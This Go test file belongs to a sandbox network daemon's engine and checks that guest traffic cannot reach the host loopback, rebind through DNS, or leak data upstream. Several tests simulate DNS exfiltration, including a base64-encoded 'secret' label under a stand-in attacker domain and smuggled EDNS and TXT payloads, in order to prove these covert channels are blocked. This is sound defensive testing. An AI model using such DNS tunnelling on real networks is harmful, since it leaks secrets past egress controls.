package engine

import (
	"context"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"krunbox.dev/netd/internal/config"
)

// Regression tests for the hostile review of the engine (issue 15's
// review): each acts as the guest and checks what reached the host, with a
// positive control in the same run.

// The guest resolving host.krunbox.internal binds nothing: a suffix rule
// covering that name (one config.Parse refuses; forced in here to check the
// engine's own defence) does not open the host's loopback, while a
// dns.hosts name under the same suffix, bound to hostAddress by the
// configuration itself, does.
func TestHostNameNeverGrantsHostLoopbackToASuffixRule(t *testing.T) {
	srv := newEchoServer(t)
	rules := `[{"action":"allow","dest":{"kind":"suffix","suffix":".corp.internal"},"protocols":["tcp"],"id":"allow@.internal:tcp"},
	 {"action":"allow","dest":{"kind":"group","group":"public"},"id":"allow@public"}]`
	cfg := baseConfig(t, rules, "deny", map[string]any{"dns": map[string]any{"hosts": map[string]string{"db.corp.internal": "10.0.2.254"}}})
	cfg.Policy.Rules[0].Dest.Suffix = ".internal" // what config.Parse now refuses
	h := start(t, cfg)
	if got := answers(h.query("10.0.2.3", "udp", "host.krunbox.internal")); len(got) != 1 || got[0] != "10.0.2.254" {
		t.Fatalf("host.krunbox.internal: %v", got)
	}
	refusedFast(t, h, "10.0.2.254", srv.port)
	if srv.count() != 0 {
		t.Fatalf("the host's loopback accepted %d connections through a suffix rule", srv.count())
	}
	// Positive control: the configuration's own binding under that suffix.
	if got := answers(h.query("10.0.2.3", "udp", "db.corp.internal")); len(got) != 1 {
		t.Fatalf("db.corp.internal: %v", got)
	}
	c, err := h.dial("10.0.2.254", srv.port)
	if err != nil {
		t.Fatalf("dns.hosts binding under the suffix: %v", err)
	}
	defer c.Close()
	if got, err := echoOnce(c, "named"); err != nil || got != "named" {
		t.Fatalf("echo: %q %v", got, err)
	}
}

// An allowed name whose upstream answer is hostAddress (kept: a rule for the
// host group allows udp:9) gets no TCP of its own there: the name rule
// grants public addresses only, the host rule only its protocol and port.
func TestRebindingAnswerGetsOnlyItsAddressRulePorts(t *testing.T) {
	srv := newEchoServer(t)
	up := newUpstream(t, map[string][]string{"lo.allowed.test.": {"10.0.2.254"}})
	rules := `[{"action":"allow","dest":{"kind":"suffix","suffix":".allowed.test"},"protocols":["tcp"],"id":"allow@.allowed.test:tcp"},
	 {"action":"allow","dest":{"kind":"group","group":"host"},"protocols":["udp"],"ports":[{"from":9,"to":9}],"id":"allow@host:udp:9"}]`
	h := start(t, baseConfig(t, rules, "deny", map[string]any{"dns": map[string]any{"upstream": []string{up.addr.String()}}}))
	if got := answers(h.query("10.0.2.3", "udp", "lo.allowed.test")); len(got) != 1 || got[0] != "10.0.2.254" {
		t.Fatalf("lo.allowed.test: %v", got)
	}
	refusedFast(t, h, "10.0.2.254", srv.port)
	if srv.count() != 0 {
		t.Fatalf("host loopback tcp:%d reached through a name rule", srv.port)
	}
	// Positive control: the same server with the host group allowed for tcp.
	rules2 := `[{"action":"allow","dest":{"kind":"group","group":"host"},"protocols":["tcp"],"id":"allow@host:tcp"}]`
	h2 := start(t, baseConfig(t, rules2, "deny", nil))
	c, err := h2.dial("10.0.2.254", srv.port)
	if err != nil {
		t.Fatalf("host group allowed: %v", err)
	}
	defer c.Close()
	if got, err := echoOnce(c, "x"); err != nil || got != "x" {
		t.Fatalf("echo: %q %v", got, err)
	}
}

// The host profile alone (or any address rule but any and public) forwards
// no name upstream: NXDOMAIN, and the upstream never sees the query. The
// public profile, same upstream, same name, does forward it.
func TestHostProfileForwardsNoNameUpstream(t *testing.T) {
	up := newUpstream(t, map[string][]string{"c2vjcmv0.exfil.attacker.test.": {"203.0.113.7"}})
	dnsCfg := map[string]any{"dns": map[string]any{"upstream": []string{up.addr.String()}}}
	h := start(t, baseConfig(t, `[{"action":"allow","dest":{"kind":"group","group":"host"},"id":"allow@host"},
	 {"action":"allow","dest":{"kind":"cidr","cidr":"203.0.113.0/24"},"protocols":["tcp"],"id":"allow@203.0.113.0/24:tcp"}]`, "deny", dnsCfg))
	if r := h.query("10.0.2.3", "udp", "c2vjcmv0.exfil.attacker.test"); r.Rcode != dns.RcodeNameError {
		t.Fatalf("host profile: rcode %d", r.Rcode)
	}
	if up.saw("c2vjcmv0.exfil.attacker.test") {
		t.Fatal("allow@host only, yet the upstream saw the name")
	}
	h2 := start(t, baseConfig(t, rulesPublic, "deny", dnsCfg))
	if got := answers(h2.query("10.0.2.3", "udp", "c2vjcmv0.exfil.attacker.test")); len(got) != 1 || !up.saw("c2vjcmv0.exfil.attacker.test") {
		t.Fatalf("public profile: %v, upstream saw it: %v", got, up.saw("c2vjcmv0.exfil.attacker.test"))
	}
}

// A published port's client with an IPv6 zone is checked against the
// ingress rules like the same address without it.
func TestIngressClientZoneIsStripped(t *testing.T) {
	rules := `[{"action":"deny","direction":"ingress","dest":{"kind":"cidr","cidr":"fe80::/10"},"id":"deny@[fe80::/10]:ingress"}]`
	h := start(t, baseConfig(t, rules, "deny", nil))
	p := config.Port{Protocol: "tcp", Host: 8080, Guest: 80}
	if h.e.ingress("tcp", netip.MustParseAddr("fe80::1%lo"), p) {
		t.Fatal("a zoned link-local client passed deny@[fe80::/10]:ingress")
	}
	if evs := h.eventsFor("fe80::1"); len(evs) != 1 || evs[0].Action != "denied" {
		t.Fatalf("events: %+v", evs)
	}
	// Control: another client is admitted (no ingress rule matches it).
	if !h.e.ingress("tcp", netip.MustParseAddr("::1"), p) {
		t.Fatal("::1 refused")
	}
	h.e.flows.release()
}

// A guest packet to 127/8 (only a raw socket sends one) is decided like any
// flow: refused at once with a RST and an event, not silently dropped.
func TestLoopbackDestinationIsRefusedNotDropped(t *testing.T) {
	srv := newEchoServer(t)
	h := start(t, baseConfig(t, rulesHost, "deny", nil))
	refusedFast(t, h, "127.0.0.1", srv.port)
	if evs := h.eventsFor("127.0.0.1"); len(evs) == 0 || evs[0].Action != "denied" {
		t.Fatalf("events: %+v", evs)
	}
	if srv.count() != 0 {
		t.Fatal("the host's loopback accepted a connection")
	}
	// Control, same guest: hostAddress reaches the same server.
	c, err := h.dial("10.0.2.254", srv.port)
	if err != nil {
		t.Fatal(err)
	}
	c.Close()
}

// An allowed flow whose host dial lands on the host itself (its peer a
// loopback address, or its local address: an address of the host netd did
// not read at start) is decided again as a flow to the host group: refused
// unless the host is allowed.
func TestDialLandingOnTheHostCountsAsHost(t *testing.T) {
	srv := newEchoServer(t)
	u := newUDPEcho(t)
	rules := `[{"action":"allow","dest":{"kind":"group","group":"loopback"},"id":"allow@loopback"},` +
		`{"action":"allow","dest":{"kind":"group","group":"public"},"id":"allow@public"}]`
	// The host's own address as netd did not know it: the dial of an
	// allowed public address lands on the host's 127.0.0.1.
	toHost := func(ctx context.Context, network, address string) (net.Conn, error) {
		_, port, _ := net.SplitHostPort(address)
		var d net.Dialer
		return d.DialContext(ctx, network, net.JoinHostPort("127.0.0.1", port))
	}
	h := startWith(t, baseConfig(t, rules, "deny", nil), Options{Dial: toHost})
	for _, addr := range []string{"127.0.0.1", "203.0.113.7"} {
		refusedFast(t, h, addr, srv.port)
		evs := h.eventsFor(addr)
		if len(evs) != 2 || evs[0].Action != "allowed" || evs[1].Action != "denied" || evs[1].Rule != RuleHostSelf {
			t.Fatalf("%s: events %+v", addr, evs)
		}
	}
	c := h.udp("127.0.0.1", u.port)
	_, _ = c.Write([]byte("x"))
	unreach := h.g.Stats().ICMP.V4.PacketsReceived.DstUnreachable
	if !waitFor(time.Second, func() bool { return unreach.Value() >= 1 }) {
		t.Fatal("no ICMP unreachable for udp landing on the host")
	}
	if u.count() != 0 {
		t.Fatalf("the host's UDP server saw %d datagrams", u.count())
	}
	if open, _ := h.e.flows.counts(); open != 0 {
		t.Fatalf("%d flows left open", open)
	}
	// Control: the same flows with the host group allowed reach the server.
	h2 := startWith(t, baseConfig(t, `[{"action":"allow","dest":{"kind":"group","group":"host"},"id":"allow@host"},`+rules[1:], "deny", nil), Options{Dial: toHost})
	for _, addr := range []string{"127.0.0.1", "203.0.113.7"} {
		c, err := h2.dial(addr, srv.port)
		if err != nil {
			t.Fatalf("%s with the host allowed: %v", addr, err)
		}
		if got, err := echoOnce(c, "hi"); err != nil || got != "hi" {
			t.Fatalf("%s: %q %v", addr, got, err)
		}
		c.Close()
	}
}

// netd's host sockets have fixed kernel buffers: a guest that stops
// reading leaves at most about HostSocketBuffer queued on the host (the
// kernel's autotuning let it reach megabytes); published ports' listeners
// pass the same buffers to the sockets they accept.
func TestHostSocketBuffersAreFixed(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		buf := make([]byte, 1<<20)
		for {
			if _, err := c.Write(buf); err != nil {
				return
			}
		}
	}()
	h := start(t, baseConfig(t, rulesHost, "deny", nil))
	c, err := h.dial("10.0.2.254", port)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close() // never read
	// netd's end is the socket whose peer is the server's port.
	var queued, last int
	stable := 0
	for i := 0; i < 100 && stable < 5; i++ {
		time.Sleep(50 * time.Millisecond)
		queued = rxQueue(t, port)
		if queued == last && queued > 0 {
			stable++
		} else {
			stable = 0
		}
		last = queued
	}
	if queued == 0 || queued > 2*HostSocketBuffer {
		t.Fatalf("netd's host socket holds %d bytes unread (bound %d)", queued, 2*HostSocketBuffer)
	}
	t.Logf("netd's host socket settled at %d bytes queued", queued)

	l, err := listenConfig.Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	cc, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer cc.Close()
	a, err := l.Accept()
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	raw, _ := a.(*net.TCPConn).SyscallConn()
	_ = raw.Control(func(fd uintptr) {
		for _, opt := range []int{unix.SO_RCVBUF, unix.SO_SNDBUF} {
			if v, err := unix.GetsockoptInt(int(fd), unix.SOL_SOCKET, opt); err != nil || v > 2*HostSocketBuffer {
				t.Errorf("an accepted published-port socket: option %d = %d %v", opt, v, err)
			}
		}
	})
}

// rxQueue is the receive queue of the IPv4 TCP socket whose remote port is
// port (/proc/net/tcp), 0 when there is none.
func rxQueue(t *testing.T, port int) int {
	b, err := os.ReadFile("/proc/net/tcp")
	if err != nil {
		t.Skip("no /proc/net/tcp")
	}
	for _, line := range strings.Split(string(b), "\n")[1:] {
		f := strings.Fields(line)
		if len(f) < 5 {
			continue
		}
		rem := f[2]
		if p, err := strconv.ParseUint(rem[strings.IndexByte(rem, ':')+1:], 16, 32); err != nil || int(p) != port {
			continue
		}
		q := f[4]
		if n, err := strconv.ParseUint(q[strings.IndexByte(q, ':')+1:], 16, 64); err == nil {
			return int(n)
		}
	}
	return 0
}

// Under public, names only the host's LAN answers are NXDOMAIN and never
// reach the host's resolver: reverse zones of private (and host) ranges,
// single labels, .local; a public reverse name is forwarded (control).
func TestLANNamesAndPrivateReverseZonesNotForwarded(t *testing.T) {
	up := newUpstream(t, map[string][]string{})
	h := start(t, baseConfig(t, rulesPublic, "deny", map[string]any{"dns": map[string]any{"upstream": []string{up.addr.String()}}}))
	ptr := func(name string) *dns.Msg {
		m := new(dns.Msg)
		m.SetQuestion(dns.Fqdn(name), dns.TypePTR)
		return h.exchange("10.0.2.3", "udp", m)
	}
	for _, name := range []string{"10.1.168.192.in-addr.arpa", "1.168.192.in-addr.arpa", "254.2.0.10.in-addr.arpa", "fileserver", "printer.local", "router.lan", "nas.home.arpa", "localhost"} {
		if r := ptr(name); r.Rcode != dns.RcodeNameError {
			t.Errorf("%s: rcode %d", name, r.Rcode)
		}
		if up.saw(name) {
			t.Errorf("%s reached the host's resolver", name)
		}
	}
	if r := ptr("7.113.0.203.in-addr.arpa"); r.Rcode != dns.RcodeSuccess || !up.saw("7.113.0.203.in-addr.arpa") {
		t.Fatalf("a public reverse name: rcode %d, forwarded %v", r.Rcode, up.saw("7.113.0.203.in-addr.arpa"))
	}
}

// An HTTPS record's address hints are addresses a client may dial without
// asking for A: its non-public ones are stripped, public ones kept.
func TestHTTPSHintsLoseNonPublicAddresses(t *testing.T) {
	up := newUpstream(t, map[string][]string{"svc.test.": {"https:10.1.2.3,203.0.113.7,127.0.0.1,fd00::1,10.0.2.254"}})
	h := start(t, baseConfig(t, rulesPublic, "deny", map[string]any{"dns": map[string]any{"upstream": []string{up.addr.String()}}}))
	m := new(dns.Msg)
	m.SetQuestion("svc.test.", dns.TypeHTTPS)
	r := h.exchange("10.0.2.3", "udp", m)
	if len(r.Answer) != 1 {
		t.Fatalf("answers: %v", r.Answer)
	}
	https, ok := r.Answer[0].(*dns.HTTPS)
	if !ok {
		t.Fatalf("answer: %v", r.Answer[0])
	}
	var keys []string
	for _, kv := range https.Value {
		keys = append(keys, kv.Key().String()+"="+kv.String())
	}
	if got := strings.Join(keys, " "); got != "alpn=h2 ipv4hint=203.0.113.7" {
		t.Fatalf("svc params: %s", got)
	}
}

// The upstream gets a query built from the question alone: no EDNS option,
// no extra record and not the guest's letter case (each a channel out);
// the guest's answer keeps its own question.
func TestUpstreamQueryIsBuiltAfresh(t *testing.T) {
	up := newUpstream(t, map[string][]string{"mixed.allowed.test.": {"203.0.113.7"}})
	h := start(t, baseConfig(t, rulesPublic, "deny", map[string]any{"dns": map[string]any{"upstream": []string{up.addr.String()}}}))
	m := new(dns.Msg)
	m.SetQuestion("MiXeD.aLLowed.TEST.", dns.TypeA)
	m.SetEdns0(4096, false)
	opt := m.IsEdns0()
	opt.Option = append(opt.Option, &dns.EDNS0_LOCAL{Code: 65001, Data: []byte("c2VjcmV0")}, &dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: "0102030405060708"})
	m.Extra = append(m.Extra, &dns.TXT{Hdr: dns.RR_Header{Name: "x.", Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{"exfil"}})
	r := h.exchange("10.0.2.3", "udp", m)
	if got := answers(r); len(got) != 1 || r.Question[0].Name != "MiXeD.aLLowed.TEST." {
		t.Fatalf("answer %v, question %v", got, r.Question)
	}
	up.mu.Lock()
	defer up.mu.Unlock()
	if len(up.msgs) != 1 {
		t.Fatalf("%d upstream messages", len(up.msgs))
	}
	q := up.msgs[0]
	if q.Question[0].Name != "mixed.allowed.test." {
		t.Errorf("upstream question %q", q.Question[0].Name)
	}
	if len(q.Extra) != 1 || len(q.Ns) != 0 || len(q.Answer) != 0 {
		t.Errorf("upstream records: answer %v ns %v extra %v", q.Answer, q.Ns, q.Extra)
	}
	if o := q.IsEdns0(); o == nil || len(o.Option) != 0 {
		t.Errorf("upstream EDNS: %v", o)
	}
}
